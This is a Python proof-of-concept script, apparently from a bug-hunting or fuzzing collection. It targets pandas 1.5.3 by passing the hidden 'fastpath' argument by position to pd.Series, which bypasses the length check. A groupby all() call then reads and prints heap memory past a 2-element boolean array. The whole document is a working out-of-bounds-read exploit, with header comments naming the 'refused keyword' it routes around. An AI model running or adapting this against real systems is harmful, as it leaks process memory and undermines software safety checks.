# source: pandas 1.5.3 pandas/core/series.py Series.__init__ (6th positional parameter fastpath skips the length check: SingleBlockManager.from_array, and blocks.check_ndim checks no length for 1-D extension arrays); pandas/_libs/groupby.pyx group_any_all loops over len(labels) and reads values[i, j] and mask[i, j] unchecked
# family: refused keyword (fastpath) reached by position in pd.Series, constructor called directly or taken as a value; Series whose index is longer than its extension array, then groupby any()/all() reads past the values and mask buffers
# goal: out-of-bounds read: 4094 group results computed from heap bytes past a 2-element boolean array (NA/True pattern of foreign memory) are printed
import numpy as np
import pandas as pd

makers = {"series": pd.Series}
n = 4096
vals = pd.array([True, True], dtype="boolean")
s = makers["series"](vals, pd.RangeIndex(n), None, None, False, True)
print("len(s) =", len(s), " len(s.array) =", len(s.array), flush=True)
r = s.groupby(np.arange(n)).all(skipna=False)
na = r.isna().to_numpy()
false = ~r.fillna(True).to_numpy(dtype=bool)
print("the 2 real rows:", r.iloc[:2].tolist())
print("rows past the end: False (zero byte read)", int(false[2:].sum()), " NA", int(na[2:].sum()))
print("offsets past the end where memory was zero:", np.flatnonzero(false)[:16].tolist())
